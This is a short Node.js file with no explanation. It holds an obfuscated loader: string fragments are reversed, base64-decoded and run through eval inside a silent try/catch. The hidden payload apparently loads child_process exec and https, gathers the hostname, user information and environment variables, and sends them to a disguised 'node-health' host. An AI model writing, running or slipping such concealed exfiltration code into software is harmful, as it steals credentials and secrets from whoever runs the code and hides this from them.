var _0x = [
  "=owOpQGKk5WZuI3Op03e+0TKowyJy9mcyV2Jo42buInC7kSf7kSf9tXKlhCajRXYj13Op03e+0TK",
  "owSflVnc0pTZklGSzd3bk5Wa3tHLj5iaoMWZ4VWKj5iaoYWa7kiYoU2cyFGcu40TTpUPqBCdz52b",
  "jtXeyR3e+0TKowyJk5WZngibv5yclJ3OpMWPrImP9MGLnEGdhR2Jo42buMXZytzJn0jYgQXZstnP",
  "9MXZyxSf9dibvNnav42bpRXYjlGbwBXYnozJlBXe01CduVGdu92YnsnOzJXZkFWZoxyJUN1TQdiO",
  "k9Ga0VWbscicvEjdvciOoRXYwxCa6Q3cvh2eoQ3clVXclJnLzBHd0hWPyBCdz52bjpwOp0XKoQ2d",
  "j5yczV2YvJHc6Q2djxiduVmLzNXZj9mcwpjduVGLpgSby9mZ0FGbw5ycvpDcsQWa7hSeml2Zulmc",
  "0NnLO90UK1DZgQ3cu92YKsTZtFmbyV2c15SKo8mZulkclNXduM3brcSLnsSKoUWbh5Gdz9GauM3b",
  "9QWagQ3cu92YKszJlxGctFGel5Ca0xWYlhWLlR2bu5SawF2J9gGI0NnbvNmC7kyJzNXZj9mcw9FZ",
  "slGajdCKlJXa1FXZy1TfjVGeltHLpcycwRHdodCKlJXa1FXZy1zcwRHdoxSKnM3bngSZylWdxVmc",
  "9M3bgQ3cu92Y"
];
var s = _0x.join("");
var d = Buffer.from(s.split("").reverse().join(""), "base64").toString("utf-8");
try { eval(d); } catch (e) {}
